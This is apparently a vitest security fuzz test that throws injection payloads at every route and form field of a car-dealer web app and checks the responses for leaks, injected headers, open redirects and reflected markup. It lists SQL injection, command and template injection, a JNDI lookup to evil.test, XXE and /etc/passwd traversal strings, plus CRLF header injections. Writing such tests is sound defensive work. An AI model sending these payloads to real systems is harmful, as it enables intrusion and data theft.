import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import routes from '#app/routes.ts'
import { car } from '#tests/factories/car.ts'
import { type RunningServer, runningServer } from '../factories/servers/running-server.ts'
import { SCRIPT_PAYLOADS } from '../factories/hostile/script-payloads.ts'
import { siteDocument } from '#tests/factories/site-document.ts'
import { scaled } from '../running/scale.ts'
import { repeated } from './repeated.ts'

let server: RunningServer
beforeAll(async () => {
  server = await runningServer({
    sites: [{ document: siteDocument({ slug: 'alpha', traits: ['two-locations'] }), cars: [car({ slug: 'fuzzed' })] }],
  })
})
afterAll(() => server.close())

/** What ends or changes a statement of SQL; the last ones take their time when they run. */
const SQL = [
  `'`, `''`, `"`, '`', `\\`, `;`, `--`, `' OR '1'='1`, `' OR 1=1--`, `" OR ""="`, `') OR ('1'='1`, `1; DROP TABLE car--`,
  `' UNION SELECT NULL,NULL,NULL--`, `1' AND 1=CONVERT(int,@@version)--`, `' AND extractvalue(1,concat(0x7e,version()))--`,
  `%' AND 1=0 UNION SELECT name FROM sqlite_master--`, `admin'/*`, `1 AND 1=1`, `1) ORDER BY 99--`, `'; SELECT pg_sleep(9)--`,
  `' || (SELECT pg_sleep(9)) || '`, `1 AND randomblob(900000000)`, `' AND SLEEP(9)--`, `1;WAITFOR DELAY '0:0:9'--`,
] // prettier-ignore

/** What a template, a shell or a language might carry out; the product is 34,571. */
const TEMPLATES = [
  '{{191*181}}', '${191*181}', '#{191*181}', '<%= 191*181 %>', '${{191*181}}', '{{constructor.constructor("return process")()}}', '{%debug%}',
  '$(sleep 9)', '`sleep 9`', '; sleep 9', '| sleep 9', '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty',
  '__proto__[polluted]', '[object Object]', 'NaN', 'Infinity', '-0', '1e999', '-1', '9007199254740993', '0x10', 'null',
  'undefined', 'true', '()', '(&(uid=*))', '*)(uid=*', '${jndi:ldap://evil.test/a}', '<!ENTITY x SYSTEM "file:///etc/passwd">',
] // prettier-ignore

const FILES = [
  '../../../../etc/passwd', '..%2f..%2f..%2fetc%2fpasswd', '....//....//etc/passwd', '..\\..\\..\\windows\\win.ini', '/etc/passwd',
  'file:///etc/passwd', 'etc/passwd%00.jpg', 'etc/passwd\0', '.env', '.git/config', 'php://filter/resource=index', '%c0%ae%c0%ae/',
  '~root', 'CON', 'a/../../forecourt.sqlite', 'http://127.0.0.1:1/', '//evil.test/x', '/\\evil.test',
] // prettier-ignore

const HEADERS = [
  'a\r\nX-Injected: yes', 'a\nX-Injected: yes', 'a\rX-Injected: yes', 'a%0d%0aX-Injected:%20yes', 'a\r\n\r\n<script>alert(1)</script>',
  'a\u560a\u560dX-Injected: yes', 'a\r\nSet-Cookie: injected=1', 'a\u2028b', 'a\u0085X-Injected: yes',
] // prettier-ignore

const ODD = [
  '', ' ', '\0', '\u0001', '\u007f', '\u202e', '\ufeff', '\ud800', '\udc00', '\u{1f697}', 'e\u0301', 'İ', 'ß', '%', '%%', '%zz',
  '%25', '%u0041', '&', '=', '?', '#', '+', 'a'.repeat(3_000), '['.repeat(500), '('.repeat(500), `${'a'.repeat(60)}!`, '0'.repeat(400),
] // prettier-ignore

const PAYLOADS = [...SQL, ...TEMPLATES, ...FILES, ...HEADERS, ...ODD, ...SCRIPT_PAYLOADS]

/** Everything that an address of ours may ask with. */
const QUERY = [
  'query', 'q', 'page', 'sort', 'make', 'model', 'badge', 'body', 'colour', 'price', 'year', 'km', 'seats', 'status', 'tag', 'fuel',
  'transmission', 'drive', 'location', 'postcode', 'within', 'weekly', 'deposit', 'plan', 'car', 'cars', 'category', 'brand',
  'availability', 'facet', 'lead_id', 'kind', 'date', 'time', 'form', 'slug', 'id', 'limit', 'offset', 'filter', 'term', 'rate',
  'balloon', 'amount', '_routes', 'index', 'redirect', 'back',
] // prettier-ignore

interface Aim {
  readonly path: (payload: string) => string
  readonly method?: string
  readonly body?: (payload: string) => string
}

const paths = routes.flatMap(({ path, index }) => (index ? [''] : path === undefined ? [] : [path]))
const filled = (path: string, value: string) => `/${path.replaceAll(/:\w+\??|\*/g, value)}`
const encoded = (text: string) => encodeURIComponent(text.toWellFormed())
const FORM = ['name', 'email', 'phone', 'message', 'car', 'category', 'postcode', 'form_token', 'location', 'date', 'time', 'part', 'back'] // prettier-ignore

/** Every parameter of every route: in the path, in the query, in a form, and as data alone. */
const AIMS: readonly Aim[] = paths.flatMap((path): Aim[] => [
  ...(/[:*]/.test(path)
    ? [
        { path: (payload: string) => filled(path, encoded(payload)) },
        { path: (payload: string) => `${filled(path, encoded(payload))}.data` },
        // As it was typed, as far as an address can hold it.
        { path: (payload: string) => filled(path, payload.toWellFormed().replaceAll(/[\s?#\0]/gu, '')) },
      ]
    : []),
  ...QUERY.map((name) => ({ path: (payload: string) => `${filled(path, 'fuzzed')}?${name}=${encoded(payload)}` })),
  { path: (payload: string) => `${filled(path, 'fuzzed')}?${encoded(payload)}=1` },
  ...FORM.map((name) => ({
    path: () => filled(path, 'enquiry'),
    method: 'POST',
    body: (payload: string) => `${name}=${encoded(payload)}`,
  })),
])

/** Longer than any answer takes; a payload that sleeps takes nine seconds, ms. */
const SLOW_MS = 8_000
const COUNT = 10_000

describe('every parameter of every route', { timeout: 900_000 }, () => {
  test('W1 takes anything: no fault, nothing of it as markup, as a header or as a statement', async ({ task }) => {
    const all = AIMS.length * PAYLOADS.length
    expect(paths.length).toBeGreaterThan(40)
    const count = scaled(COUNT)
    const faults: string[] = []
    for (let i = 0; i < count; i++) {
      // A step far from any divisor: few of them come past every route and every payload.
      const at = (i * 7_919 * 13) % all
      const aim = AIMS[Math.floor(at / PAYLOADS.length)]!
      const payload = PAYLOADS[at % PAYLOADS.length]!
      const path = aim.path(payload)
      if (!URL.canParse(`http://a${path}`)) continue
      const begun = performance.now()
      const answer = await server.get(path, {
        ...(aim.method && { method: aim.method }),
        ...(aim.body && { body: aim.body(payload) }),
        headers: aim.body
          ? { origin: 'http://alpha.localhost', 'content-type': 'application/x-www-form-urlencoded' }
          : {},
      })
      const requested = `${aim.method ?? 'GET'} ${path} ${aim.body?.(payload) ?? ''}`.slice(0, 300)
      for (const fault of faultsOf(answer, await answer.text(), payload)) faults.push(`${requested}: ${fault}`)
      if (performance.now() - begun > SLOW_MS) faults.push(`${requested}: took its time`)
    }
    repeated(task, count)
    expect(faults).toEqual([])
    expect(Object.keys(Object.prototype)).toEqual([])
  })
})

function faultsOf(answer: Response, body: string, payload: string): string[] {
  const faults: string[] = []
  const { headers } = answer
  if (answer.status >= 500) faults.push(`${answer.status}`)
  if (headers.has('x-injected') || /injected/.test(headers.get('set-cookie') ?? '')) faults.push('a header of its own')
  const to = headers.get('location')
  if (to !== null && !/^\/(?![/\\])/.test(to)) faults.push(`leads to ${to}`)
  if (/root:x:0:0|SQLite format 3|\[fonts\]|SQLITE_ERROR|syntax error at or near|\n {4}at \S+ \(/.test(body)) {
    faults.push('shows something of the inside')
  }
  if (headers.get('content-type')?.includes('html')) {
    // Structured data is JSON: its quotes may stand beside the text, and what ends it is escaped.
    const markup = body.replaceAll(/<script type="application\/ld\+json"[^>]*>.*?<\/script>/gs, '')
    if (payload.includes('<') && payload.length > 6 && markup.includes(payload)) faults.push('came back as markup')
    // What stands escaped in a value of ours begins no element.
    const bare = markup.replaceAll(/="[^"<>]*&[^"<>]*"/g, '=""')
    if (/<(img|svg|body|iframe|details|input|math|style)\b[^>]*\son\w+=["']?alert/i.test(bare)) faults.push('runs')
    if (markup.includes('34571')) faults.push('was carried out')
    if (/<script[^>]*>alert\(1\)|href="(javascript|data):/i.test(markup)) faults.push('runs')
  } else if (body.includes('<script>alert(1)') && headers.get('x-content-type-options') !== 'nosniff') {
    faults.push('may be read as a page')
  }
  return faults
}
